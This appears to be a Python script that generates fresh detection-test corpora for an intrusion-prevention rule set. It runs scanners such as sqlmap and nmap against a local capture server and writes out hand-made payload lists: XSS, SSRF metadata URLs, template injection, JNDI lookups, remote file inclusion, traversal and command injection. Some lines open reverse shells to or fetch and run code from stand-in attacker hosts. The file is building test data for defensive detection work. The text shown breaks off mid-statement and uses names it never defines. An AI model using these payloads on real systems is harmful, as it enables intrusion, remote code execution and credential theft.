#!/usr/bin/env python3
"""ips_corpus_fresh.py - FRESH detection corpora for rules/default.rules: attack and benign
requests that were not looked at while the rules were written (issue 3: "also on attack and
benign corpora you have not seen").

    ips_corpus_fresh.py [--no-live] [--budget SECONDS] OUTDIR

Writes one raw HTTP request per file:
    OUTDIR/attack/fresh/CATEGORY/SOURCE-NNNNN.http   (sqli xss cmdi traversal rfi ssrf ssti scanner)
    OUTDIR/benign/fresh/SOURCE-NNNNN.http
    OUTDIR/SOURCES.txt                               counts per category and source

The label of a request is its source (the tool, the tool's technique or script, the wordlist),
never whether a rule detects it. SOURCE is the file name prefix, so bench/ips_detect_fresh.py
can print rates per source too.

Attack sources (none of them was read by bench/ips_corpus.py):
  live   real tools run against a capture server on 127.0.0.1 (this file), their requests saved
         as they came over the socket: sqlmap (each technique, POST and cookie injection, 20
         tamper scripts; --random-agent so that the payload and not the user agent is measured),
         nmap NSE http scripts (payload scripts run with a browser user agent), wapiti's shellshock
         module, wafw00f, whatweb, gobuster, ffuf, dirb (vulns wordlists),
         wfuzz (vulns/cgis.txt etc.) and sqlmap/nmap with their default user agents (scanner).
  manual payloads an outside tester writes from public cheat sheets for the categories that no
         Debian tool covers well (xss, ssrf, ssti/jndi, rfi), written without reading the rules.
Requests of a live tool that carry no payload (the crawl of the capture site with its own default
values, which a browser sends too) are dropped from the attack categories by comparing them with
the site's known requests (BASELINE below), not by looking at the rules.

Benign: a seeded generator written for this corpus (its own vocabulary: names with apostrophes,
prose that uses SQL and shell words, JSON API bodies, multipart uploads, cookies, real browser
user agents, REST paths, percent-encoded non-ASCII text, long query strings), and the requests of
real clients (wget --recursive, curl) crawling a static site that the capture server serves.

The live part depends on the tools and their timing, so it is reproducible up to the tools'
random values; the generated parts are byte-for-byte reproducible (fixed seeds). --budget bounds
the wall time of each live tool run (default 45 s); --no-live skips the live tools.
"""
import os
import random
import re
import shutil
import socketserver
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse

HOST = "shop.example.test"      # Host written into every saved request instead of 127.0.0.1:PORT
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
CAP_PER_RUN = 400               # at most this many requests kept from one live tool run (seeded sample)

# ---------------------------------------------------------------------------------------------
# capture server: a small web shop whose pages give crawlers parameters to test

SITE_LINKS = ["/item.php?id=1", "/search.php?q=shoes&sort=price", "/page.php?file=home.html",
              "/view.php?url=http://cdn.shop.example.test/img/1.png", "/profile.php?user=guest",
              "/cgi-bin/status.cgi", "/about.html", "/contact.html", "/products/", "/products/42"]
SITE_HTML = """<!doctype html><html><head><title>Shop</title></head><body>
<h1>Example shop</h1>
%s
<form action="/search.php" method="get"><input name="q" value="shoes"><input type="submit"></form>
<form action="/login.php" method="post"><input name="user" value="guest">
<input type="password" name="pass" value="guest"><input type="submit" value="Login"></form>
<form action="/comment.php" method="post"><input name="name" value="Ann">
<textarea name="text">Nice</textarea><input type="submit"></form>
</body></html>
""" % "\n".join('<a href="%s">link</a>' % l.replace("&", "&amp;") for l in SITE_LINKS)
KNOWN_PATHS = {"/", "/index.html", "/item.php", "/search.php", "/page.php", "/view.php", "/profile.php",
               "/cgi-bin/status.cgi", "/about.html", "/contact.html", "/products/", "/products/42",
               "/login.php", "/comment.php", "/index.php", "/robots.txt", "/favicon.ico", "/sitemap.xml"}


class Capture:
    """Threaded TCP server on 127.0.0.1 that stores every request's raw bytes in `reqs`.
    `static` (dict path -> bytes) overrides the shop pages (for the benign crawl)."""

    def __init__(self, static=None):
        self.reqs = []
        self.lock = threading.Lock()
        self.static = static
        cap = self

        class H(socketserver.StreamRequestHandler):
            timeout = 10

            def handle(self):
                try:
                    while cap.one(self.rfile, self.wfile):
                        pass
                except (OSError, ValueError):
                    pass

        class S(socketserver.ThreadingTCPServer):
            allow_reuse_address = True
            daemon_threads = True

        self.srv = S(("127.0.0.1", 0), H)
        self.port = self.srv.server_address[1]
        threading.Thread(target=self.srv.serve_forever, daemon=True).start()

    def one(self, r, w):
        head = b""
        while True:
            line = r.readline(65537)
            if not line:
                return False
            if not head and line in (b"\r\n", b"\n"):
                continue
            head += line
            if line in (b"\r\n", b"\n") or len(head) > 1 << 20:
                break
        body = b""
        m = re.search(rb"(?im)^content-length:\s*(\d+)", head)
        if m:
            body = r.read(min(int(m.group(1)), 1 << 22))
        elif re.search(rb"(?im)^transfer-encoding:\s*chunked", head):
            while True:
                sz = r.readline()
                body += sz
                n = int(sz.split(b";")[0].strip() or b"0", 16)
                chunk = r.read(n + 2)
                body += chunk
                if n == 0:
                    break
        with self.lock:
            self.reqs.append(head + body)
        target = head.split(b" ")[1].decode("latin-1") if head.count(b" ") >= 2 else "/"
        path = urllib.parse.urlsplit(target).path or "/"
        if self.static is not None:
            page = self.static.get(path) or self.static.get(path.rstrip("/") + "/index.html")
            status = b"200 OK" if page is not None else b"404 Not Found"
            page = page if page is not None else b"<html><body>not found</body></html>"
            ctype = b"text/css" if path.endswith(".css") else b"text/html; charset=utf-8"
        else:
            ok = path in KNOWN_PATHS or path.endswith(".php")
            status = b"200 OK" if ok else b"404 Not Found"
            page = (SITE_HTML if ok else "<html><body>not found</body></html>").encode()
            ctype = b"text/html; charset=utf-8"
        w.write(b"HTTP/1.1 " + status + b"\r\nServer: Apache\r\nContent-Type: " + ctype +
                b"\r\nContent-Length: " + str(len(page)).encode() + b"\r\nConnection: close\r\n\r\n" + page)
        w.flush()
        return False

    def take(self):
        with self.lock:
            out, self.reqs = self.reqs, []
        return out

    def close(self):
        self.srv.shutdown()
        self.srv.server_close()


def normalise(raw, port):
    """Saved form of a captured request: the capture server's address in an absolute-form request
    target and in Host/Referer/Origin replaced by HOST (a deployed service has a name), everything
    else byte for byte."""
    sep = raw.find(b"\r\n\r\n")
    sep = len(raw) if sep < 0 else sep
    head, body = raw[:sep], raw[sep:]
    line, _, rest = head.partition(b"\r\n")
    for a in (b"127.0.0.1:%d" % port, b"localhost:%d" % port):    # absolute-form request targets
        line = line.replace(b" http://" + a, b" http://" + HOST.encode())
    head = line + b"\r\n" + rest
    for a in (b"127.0.0.1:%d" % port, b"localhost:%d" % port, b"127.0.0.1", b"localhost"):
        head = re.sub(rb"(?im)^(host|referer|origin):(.*?)" + re.escape(a),
                      lambda m: m.group(1) + b":" + m.group(2) + HOST.encode(), head)
    return head + body


def split_req(raw):
    """(request target, [(header name lowercased, value)], body) of a raw request."""
    sep = raw.find(b"\r\n\r\n")
    head, body = (raw, b"") if sep < 0 else (raw[:sep], raw[sep + 4:])
    lines = head.decode("latin-1").split("\r\n")
    parts = lines[0].split(" ")
    hs = [(l.split(":", 1)[0].strip().lower(), l.split(":", 1)[1].strip()) for l in lines[1:] if ":" in l]
    return (parts[1] if len(parts) > 1 else ""), hs, body


def header_modes(reqs):
    """Most frequent value of each header over one tool run (the tool's own constant headers)."""
    import collections
    c = collections.defaultdict(collections.Counter)
    for r in reqs:
        for k, v in split_req(r)[1]:
            c[k][v] += 1
    return {k: v.most_common(1)[0][0] for k, v in c.items()}


PLAIN = re.compile(r"^[A-Za-z0-9_.\-/:]*$")
PLAIN_HDR = re.compile(r"^[A-Za-z0-9_.\-/:?=&]*$")
FILL_VALUES = {"Hi there!"}     # what wapiti types into a textarea while crawling
WAPITI_404 = re.compile(r"/zqxj[A-Za-z]{10}\.html$")  # wapiti's not-found probe
TOOL_HDRS = {"user-agent", "accept", "accept-encoding", "accept-language", "accept-charset", "connection",
             "cache-control", "pragma", "keep-alive", "te"}  # a tool's constant value is no payload
STD_CTYPE = re.compile(r"^(application/x-www-form-urlencoded|multipart/form-data|application/json|text/plain|text/xml)"
                       r"(;\s*[a-z]+=[A-Za-z0-9_\-]+)*$")


def is_baseline(raw, modes):
    """True for a request the capture site's own crawl produces: a known path whose parameter
    names and values are plain words, numbers or URLs (what a browser sends), headers equal to
    the tool's constant ones (or plain), no payload anywhere. Decided from the request and the
    site only, never from the rules."""
    target, hs, body = split_req(raw)
    u = urllib.parse.urlsplit(target.replace("&amp;", "&"))     # nmap's spider keeps &amp; of the links
    path = re.sub("/+", "/", u.path or "/")
    if path not in KNOWN_PATHS and "/" + path.rsplit("/", 1)[-1] not in KNOWN_PATHS \
            and not WAPITI_404.search(path):
        return False
    b = body.decode("latin-1")
    if b and "=" not in b:
        return False
    kv = urllib.parse.parse_qsl(u.query, keep_blank_values=True) + urllib.parse.parse_qsl(b, keep_blank_values=True)
    if not all(PLAIN.match(k) and (PLAIN.match(v) or v in FILL_VALUES) and ".." not in v for k, v in kv):
        return False
    for k, v in hs:
        if k in ("host", "content-length") or (PLAIN_HDR.match(v) and ".." not in v):
            continue
        if k in TOOL_HDRS and v == modes.get(k):
            continue
        if k == "content-type" and STD_CTYPE.match(v):
            continue
        if k != "cookie":
            return False
        if k == "cookie" and not all(PLAIN.match(x.strip()) for c in v.split(";") for x in c.split("=", 1)):
            return False
    return True


# ---------------------------------------------------------------------------------------------
# live tools

def have(prog):
    return shutil.which(prog) is not None


def run_tool(cap, argv, budget, label, drop_baseline=True, env=None):
    """Runs argv (bounded by budget seconds) while cap records; returns the captured requests
    with baseline crawl requests dropped when drop_baseline."""
    cap.take()
    try:
        subprocess.run(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=budget,
                       stdin=subprocess.DEVNULL, env=env)
    except subprocess.TimeoutExpired:
        pass
    time.sleep(0.3)
    reqs = cap.take()
    modes = header_modes(reqs)
    kept = [r for r in reqs if not (drop_baseline and is_baseline(r, modes))]
    sys.stderr.write("  %-34s %5d requests, %5d kept\n" % (label, len(reqs), len(kept)))
    return kept


def sample(reqs, n, seed):
    uniq = sorted(set(reqs))
    if len(uniq) <= n:
        return uniq
    return sorted(random.Random(seed).sample(uniq, n))


SQLMAP_TAMPERS = ["space2comment", "between", "charencode", "chardoubleencode", "charunicodeencode",
                  "apostrophemask", "equaltolike", "percentage", "versionedkeywords",
                  "halfversionedmorekeywords", "space2dash", "space2hash", "space2mssqlblank",
                  "multiplespaces", "greatest", "ifnull2casewhenisnull", "randomcomments",
                  "concat2concatws", "escapequotes", "overlongutf8", "lowercase", "plus2concat",
                  "sp_password", "appendnullbyte", "bluecoat", "htmlencode", "commalesslimit"]

NSE = {  # script -> category (payload scripts; run with a browser user agent)
    "http-sql-injection": "sqli", "http-vuln-cve2014-3704": "sqli", "http-vuln-cve2017-8917": "sqli",
    "http-stored-xss": "xss", "http-phpself-xss": "xss", "http-unsafe-output-escaping": "xss",
    "http-shellshock": "cmdi", "http-awstatstotals-exec": "cmdi", "http-vuln-cve2012-1823": "cmdi",
    "http-passwd": "traversal", "http-axis2-dir-traversal": "traversal",
    "http-barracuda-dir-traversal": "traversal", "http-majordomo2-dir-traversal": "traversal",
    "http-phpmyadmin-dir-traversal": "traversal", "http-tplink-dir-traversal": "traversal",
    "http-vuln-cve2006-3392": "traversal", "http-vuln-cve2010-2861": "traversal",
    "http-vmware-path-vuln": "traversal",
    "http-rfi-spider": "rfi",
    "http-vuln-cve2017-5638": "ssti", "http-vuln-cve2015-1427": "ssti",
}
NSE_ARGS = {"http-shellshock": ",uri=/cgi-bin/status.cgi", "http-awstatstotals-exec": ",http-awstatstotals-exec.cmd=id"}
NSE_SCANNER = ["http-enum", "http-methods", "http-headers", "http-title", "http-robots.txt",
               "http-server-header", "http-trace", "http-webdav-scan", "http-waf-detect",
               "http-iis-webdav-vuln", "http-config-backup", "http-userdir-enum", "http-git"]


def live(out, budget):
    """Runs the tools; out(category, source, list of raw requests)."""
    cap = Capture()
    base = "http://127.0.0.1:%d" % cap.port
    tmp = tempfile.mkdtemp(prefix="ips_fresh_")
    norm = lambda rs: [normalise(r, cap.port) for r in rs]  # noqa: E731
    try:
        sys.stderr.write("live tools against %s (budget %d s per run)\n" % (base, budget))
        if have("sqlmap"):
            sq = ["sqlmap", "--batch", "--random-agent", "--flush-session", "--disable-coloring",
                  "--output-dir", tmp + "/sqlmap", "--timeout", "5", "--retries", "0", "--time-sec", "1"]
            for i, t in enumerate("BEUSTQ"):
                rs = run_tool(cap, sq + ["-u", base + "/item.php?id=1", "--technique", t,
                                         "--level", "3", "--risk", "3"], budget, "sqlmap technique " + t)
                out("sqli", "sqlmap-tech%s" % t, sample(norm(rs), CAP_PER_RUN, 100 + i))
            rs = run_tool(cap, sq + ["-u", base + "/login.php", "--data", "user=guest&pass=guest",
                                     "--technique", "BEUT", "--level", "2"], budget, "sqlmap POST")
            out("sqli", "sqlmap-post", sample(norm(rs), CAP_PER_RUN, 110))
            rs = run_tool(cap, sq + ["-u", base + "/profile.php", "--cookie", "session=guest",
                                     "-p", "session", "--technique", "BEU", "--level", "2"],
                          budget, "sqlmap cookie")
            out("sqli", "sqlmap-cookie", sample(norm(rs), CAP_PER_RUN, 111))
            for i, tam in enumerate(SQLMAP_TAMPERS):
                rs = run_tool(cap, sq + ["-u", base + "/item.php?id=1", "--technique", "BEUST",
                                         "--tamper", tam], min(budget, 25), "sqlmap tamper " + tam)
                out("sqli", "sqlmap-tamper-" + tam, sample(norm(rs), 120, 200 + i))
            # the tool as it comes: default user agent, its baseline requests included
            rs = run_tool(cap, ["sqlmap", "--batch", "--flush-session", "--output-dir", tmp + "/sq2",
                                "-u", base + "/search.php?q=shoes", "--technique", "B", "--timeout", "5"],
                          min(budget, 20), "sqlmap default UA", drop_baseline=False)
            out("scanner", "sqlmap-default-ua", sample(norm(rs), 150, 300))
        if have("nmap"):
            nm = ["nmap", "-n", "-Pn", "-sT", "-p", str(cap.port), "--host-timeout", "%ds" % budget]
            for i, (s, cat) in enumerate(sorted(NSE.items())):
                args = "http.useragent=%s,httpspider.maxpagecount=40%s" % (FIREFOX, NSE_ARGS.get(s, ""))
                rs = run_tool(cap, nm + ["--script", "+" + s, "--script-args", args, "127.0.0.1"],
                              budget, "nmap " + s)
                out(cat, "nmap-" + s, sample(norm(rs), CAP_PER_RUN, 400 + i))
            rs = run_tool(cap, nm + ["--script", ",".join("+" + s for s in NSE_SCANNER), "127.0.0.1"],
                          budget, "nmap http scripts (default UA)", drop_baseline=False)
            out("scanner", "nmap-nse-default-ua", sample(norm(rs), 300, 450))
        if have("wapiti"):
            # (its ssrf module sent no payload to the capture site in 3.0.4: left out)
            for i, (mod, cat) in enumerate([("shellshock", "cmdi")]):
                rs = run_tool(cap, ["wapiti", "-u", base + "/", "-m", mod, "--flush-session",
                                    "--scope", "folder", "-o", tmp + "/wapiti-" + mod, "-f", "txt",
                                    "--max-scan-time", str(budget), "--level", "2"], budget + 10,
                              "wapiti " + mod)
                out(cat, "wapiti-" + mod, sample(norm(rs), CAP_PER_RUN, 500 + i))
        scanners = []
        if have("wafw00f"):
            scanners.append(("wafw00f", ["wafw00f", "-a", base + "/"]))
        if have("whatweb"):
            scanners.append(("whatweb", ["whatweb", "-a", "3", base + "/"]))
        if have("gobuster"):
            scanners.append(("gobuster", ["gobuster", "dir", "-q", "-t", "4", "-u", base + "/",
                                          "-w", "/usr/share/dirb/wordlists/small.txt"]))
        if have("ffuf"):
            scanners.append(("ffuf", ["ffuf", "-s", "-t", "4", "-u", base + "/FUZZ",
                                      "-w", "/usr/share/dirb/wordlists/vulns/tomcat.txt"]))
        if have("dirb"):
            for v in ("cgis", "apache", "iis", "jboss", "sap"):
                scanners.append(("dirb-" + v, ["dirb", base + "/", "/usr/share/dirb/wordlists/vulns/%s.txt" % v,
                                               "-S", "-r", "-o", os.devnull]))
        if have("wfuzz"):
            for v in ("cgis", "coldfusion", "weblogic", "frontpage"):
                scanners.append(("wfuzz-" + v, ["wfuzz", "-c", "-t", "4", "-w", "/usr/share/wfuzz/wordlist/vulns/%s.txt" % v,
                                                base + "/FUZZ"]))
        for i, (name, argv) in enumerate(scanners):
            rs = run_tool(cap, argv, min(budget, 30), name, drop_baseline=False)
            out("scanner", name, sample(norm(rs), 150, 600 + i))
    finally:
        cap.close()
        shutil.rmtree(tmp, ignore_errors=True)


# ---------------------------------------------------------------------------------------------
# manual payloads (an outside tester's, from public cheat sheets; categories without a good
# Debian tool source)

XSS_M = [
    "<svg/onload=alert(1)>", "<img src=x onerror=prompt(document.domain)>", "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "\"><script src=//xss.example.net/a.js></script>", "'-alert(1)-'", "</script><script>alert(1)</script>",
    "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<style>@import 'http://xss.example.net/x.css';</style>",
    "<img src=1 onerror=\"eval(atob('YWxlcnQoMSk='))\">", "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>", "<img src=x:x onerror=window['al'+'ert'](1)>",
    "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)", "<form><button formaction=javascript:alert(1)>x",
    "<isindex type=image src=1 onerror=alert(1)>", "<embed src=javascript:alert(1)>", "<base href=\"javascript:/a/-alert(1)///\">",
    "<svg><script>alert&#40;1&#41;</script>", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<div style=\"background:url(javascript:alert(1))\">", "{{constructor.constructor('alert(1)')()}}",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<audio src=x onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<x onclick=alert(1)>click", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%253Cscript%253Ealert(1)%253C%252Fscript%253E", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "<img src=`x`onerror=alert(1)>", "<svg onload=alert&lpar;1&rpar;>",
    "<img/src/onerror=top[`al`+`ert`](1)>", "<script>fetch('//xss.example.net/?c='+document.cookie)</script>",
    "<iframe src=\"javascript:alert(`xss`)\">", "<body background=\"javascript:alert(1)\">",
]
SSRF_M = [
    "http://127.0.0.1:22/", "http://localhost:6379/", "http://[::1]/admin", "http://0.0.0.0:8080/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://169.254.169.254/computeMetadata/v1/",
    "http://metadata.google.internal/computeMetadata/v1/instance/?recursive=true", "http://100.100.100.200/latest/meta-data/",
    "http://169.254.170.2/v2/credentials", "http://2130706433/", "http://0x7f000001/", "http://017700000001/",
    "http://127.1/", "http://0/", "http://[0:0:0:0:0:ffff:127.0.0.1]/", "http://10.0.0.1/server-status",
    "http://192.168.1.1/cgi-bin/luci", "http://172.16.0.5:9200/_cat/indices", "gopher://127.0.0.1:6379/_FLUSHALL",
    "dict://127.0.0.1:11211/stats", "file:///etc/passwd", "http://169.254.169.254.nip.io/", "http://localtest.me/",
    "http://127.0.0.1.nip.io:8080/", "http://[fd00:ec2::254]/latest/meta-data/", "http://instance-data/latest/meta-data/",
    "http://metadata/computeMetadata/v1/", "http://0251.0376.0251.0376/", "http://0xa9fea9fe/", "http://2852039166/",
    "http://example.com@127.0.0.1/", "http://127.0.0.1#@example.com/", "http://%31%32%37.0.0.1/", "http://[::]:80/",
    "ldap://127.0.0.1:389/", "http://kubernetes.default.svc/api/v1/secrets", "http://192.168.0.10:2375/containers/json",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
]
SSRF_PARAMS = ["url", "uri", "dest", "redirect", "next", "image", "feed", "callback", "webhook", "proxy", "src", "target"]
SSTI_M = [
    "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "${{7*7}}", "*{7*7}", "@(7*7)", "{{7*'7'}}", "[[${7*7}]]",
    "{{config}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
    "{{self.__init__.__globals__.__builtins__}}", "{{url_for.__globals__.os.popen('id').read()}}", "{{get_flashed_messages.__globals__}}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"id\") }", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()",
    "{php}echo `id`;{/php}", "{system('id')}", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}", "<%= `id` %>", "<%= system('id') %>", "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "${T(java.lang.System).getenv()}", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "${#rt = @java.lang.Runtime@getRuntime(),#rt.exec('id')}", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "#{''.getClass().forName('java.lang.Runtime')}", "${applicationScope}", "${pageContext.request.getSession()}",
    "{{ '' | attr('__class__') }}", "{{lipsum|attr('__globals__')}}", "${{<%[%'\"}}%\\.",
    "${jndi:ldap://198.51.100.7:1389/a}", "${jndi:rmi://evil.example.net/obj}", "${jndi:ldaps://evil.example.net/x}",
    "${jndi:iiop://evil.example.net/x}", "${jndi:corba://evil.example.net/x}", "${jndi:nis://evil.example.net/x}",
    "${${lower:j}ndi:${lower:l}dap://evil.example.net/a}", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example.net/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example.net/a}", "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example.net/a}",
    "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://evil.example.net/a}", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example.net/a}",
    "${jndi:dns://evil.example.net/${env:AWS_SECRET_ACCESS_KEY}}", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example.net/a}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example.net%2Fa%7D", "${jndi:ldap://${sys:java.version}.evil.example.net/a}",
    "${${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUubmV0L2F9}}",
]
RFI_M = [
    "http://evil.example.net/shell.txt", "http://198.51.100.9/r57.txt?", "https://evil.example.net/c99.php%00",
    "ftp://anonymous@evil.example.net/pub/x.txt", "http://evil.example.net/inc.txt?cmd=id", "hxxp://evil.example.net/x.txt",
    "HTTP://EVIL.EXAMPLE.NET/SHELL.TXT?", "http:%2f%2fevil.example.net%2fshell.txt", "\\\\198.51.100.9\\share\\shell.php",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+", "php://input", "expect://id",
    "http://evil.example.net/x.jpg?.php", "https://raw.githubusercontent.example/u/r/master/s.php", "//evil.example.net/s.txt",
    "http://evil.example.net:8080/bd.txt???", "php://filter/read=convert.base64-encode/resource=http://evil.example.net/x",
    "zip://uploads/a.jpg%23shell.php", "phar://uploads/a.jpg/shell.php", "http://0xc6336409/s.txt",
]
CMDI_M = [
    ";id", "|id", "||id", "&&id", "&id&", "`id`", "$(id)", ";uname -a;", "|cat /etc/passwd", "; cat /etc/shadow #",
    "%0aid", "%0a/bin/id%0a", "1;sleep 5", "1|sleep${IFS}5", "1&&ping -c 4 127.0.0.1", "x||ping -n 5 127.0.0.1||",
    "& ping -n 10 127.0.0.1 &", "| dir C:\\", "& type C:\\Windows\\win.ini", "| net user", "& whoami /all",
    "; wget http://198.51.100.7/x.sh -O /tmp/x.sh; sh /tmp/x.sh", "$(curl -s http://evil.example.net/s|sh)",
    "; nc -e /bin/sh 198.51.100.7 4444", "; bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "| python3 -c 'import os;os.system(\"id\")'",
    ";{cat,/etc/passwd}", ";cat$IFS/etc/passwd", ";c'a't /e't'c/pa's'swd", ";/???/??t /???/p??s??", ";echo aWQ= | base64 -d | sh",
    "`sleep 10`", "$(sleep 10)", ";perl -e 'system(\"id\")'", "| powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://evil.example.net/p')\"",
    "& cmd /c ver", "; ls -la /", "|| rm -rf /tmp/x", "; echo $((7*7))", "%3Bid", "%7Cid", "%26%26id", "%60id%60",
    "127.0.0.1; id", "127.0.0.1 | whoami", "8.8.8.8 && cat /etc/hostname", "google.com`id`", "a;/bin/busybox telnetd -l /bin/sh -p 9999",
    "\nid\n", ";${PATH:0:1}bin${PATH:0:1}id", ";$u'n'ame -a", "| certutil -urlcache -split -f http://evil.example.net/a.exe a.exe",
]
CMDI_PARAMS = ["host", "ip", "cmd", "ping", "domain", "file", "dir", "exec", "query", "to"]
TRAV_M = [
    "../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/%2e%2e/etc/shadow", "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%af..%c0%afetc/passwd", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "....//....//....//etc/passwd", "..;/..;/..;/etc/passwd",
    "..\\..\\..\\windows\\win.ini", "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts", "/etc/passwd", "/etc/passwd%00.png",
    "../../../../etc/passwd%00", "/proc/self/environ", "../../../proc/self/cmdline", "/var/log/apache2/access.log", "../../../../var/www/html/config.php",
    "C:\\boot.ini", "C:/Windows/System32/config/SAM", "file:///etc/passwd", "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=../config.php", "/..%252f..%252f..%252fetc/passwd", "%uff0e%uff0e/%uff0e%uff0e/etc/passwd",
    "..%u2215..%u2215etc%u2215passwd", "../../../../../../../../../../../../etc/hosts", "/./././././etc/passwd", "/static/../../../../etc/passwd",
    "..%00/..%00/etc/passwd", "../../.ssh/id_rsa", "../../../../root/.bash_history", "....\\....\\....\\windows\\win.ini",
    "/WEB-INF/web.xml", "../WEB-INF/web.xml", "..%2F..%2F..%2F..%2Fboot.ini", "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini",
]
TRAV_PARAMS = ["file", "path", "doc", "page", "template", "download", "img", "filename", "dir", "lang"]
RFI_PARAMS = ["page", "file", "include", "inc", "template", "module", "path", "doc", "lang", "view"]


def manual(out):
    rnd = random.Random(3003)
    uas = [FIREFOX, CHROME, SAFARI]

    def req(method, target, body=b"", ctype=None, extra=()):
        h = ["%s %s HTTP/1.1" % (method, target), "Host: " + HOST, "User-Agent: " + rnd.choice(uas),
             "Accept: */*"]
        h += list(extra)
        if body:
            h += ["Content-Type: " + (ctype or "application/x-www-form-urlencoded"), "Content-Length: %d" % len(body)]
        return ("\r\n".join(h) + "\r\n\r\n").encode("utf-8") + body

    def places(p, params, paths):
        q = urllib.parse.quote(p, safe="")
        prm = rnd.choice(params)
        return [req("GET", "%s?%s=%s" % (rnd.choice(paths), prm, q)),
                req("POST", rnd.choice(paths), ("%s=%s&lang=en" % (prm, q)).encode()),
                req("GET", "%s?%s=%s" % (rnd.choice(paths), prm, urllib.parse.quote(p, safe="/:=&?")))]

    xs = []
    for p in XSS_M:
        xs += places(p, ["q", "name", "comment", "title", "redirect"], ["/search", "/guestbook.php", "/profile/edit"])
        xs.append(req("POST", "/api/comments", ('{"author":"x","body":%s}' % json_str(p)).encode(), "application/json"))
    out("xss", "manual", xs)
    ss = []
    for p in SSRF_M:
        ss += places(p, SSRF_PARAMS, ["/fetch", "/api/preview", "/proxy", "/webhooks/test"])
        ss.append(req("POST", "/api/import", ('{"source_url":%s}' % json_str(p)).encode(), "application/json"))
    out("ssrf", "manual", ss)
    st = []
    for p in SSTI_M:
        st += places(p, ["name", "q", "template", "greeting", "email"], ["/hello", "/render", "/preview"])
        if "jndi" in p or "${" in p:
            st.append(req("GET", "/", extra=["X-Api-Version: " + p]))
            st.append(req("GET", "/login", extra=["Referer: " + p]))
            st.append(req("GET", "/", extra=["X-Forwarded-For: " + p]))
    out("ssti", "manual", st)
    rf = []
    for p in RFI_M:
        rf += places(p, RFI_PARAMS, ["/index.php", "/main.php", "/show.php"])
    out("rfi", "manual", rf)
    cm = []
    for p in CMDI_M:
        cm += places(p if "%" not in p else urllib.parse.unquote(p), CMDI_PARAMS, ["/tools/ping", "/cgi-bin/admin.cgi", "/api/diag"])
    out("cmdi", "manual", cm)
    tr = []
    for p in TRAV_M:
        raw = p if "%" not in p else None
        if raw:
            tr += places(p, TRAV_PARAMS, ["/download", "/view.php", "/static/get"])
        else:   # pre-encoded forms go into the request as they are
            tr.append(req("GET", "/download?%s=%s" % (rnd.choice(TRAV_PARAMS), p)))
            tr.append(req("GET", "/files/" + p))
        if raw and not p.startswith(("php:", "file:", "C:")):   # in the path too
